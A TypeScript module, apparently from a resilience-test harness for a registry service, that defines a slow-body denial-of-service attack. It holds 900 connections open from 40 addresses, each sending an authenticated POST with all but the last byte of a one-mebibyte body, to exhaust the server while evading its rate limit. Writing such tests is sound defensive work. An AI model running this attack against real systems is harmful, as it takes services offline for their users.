import type { Attack } from './attack.ts';
import { addressOf, head, holdOpen, openRaw } from './raw-connection.ts';

const CONNECTIONS = 900;
/** Each has its own limit of connections. */
const ADDRESSES = 40;
const REOPEN_AFTER_MS = 10_000;
const ALL_BUT_THE_END = Buffer.alloc(1024 * 1024 - 1, ' ');

/** A registrar sends 900 bodies of a mebibyte within its rate limit, and of each all but the last byte. */
export const unfinishedBodies: Attack = {
  name: 'unfinished bodies',
  start: ({ port, credentials: { registrar = '' } = {} }) => {
    const request = head('POST /registry/v1/contacts', [
      `Authorization: ${registrar}`,
      'Content-Type: application/json',
      `Content-Length: ${ALL_BUT_THE_END.length + 1}`,
    ]);
    return holdOpen(
      CONNECTIONS,
      (index) => {
        const socket = openRaw(port, addressOf(index % ADDRESSES)).resume();
        socket.write(request);
        socket.write(ALL_BUT_THE_END);
        return socket;
      },
      REOPEN_AFTER_MS,
    );
  },
};
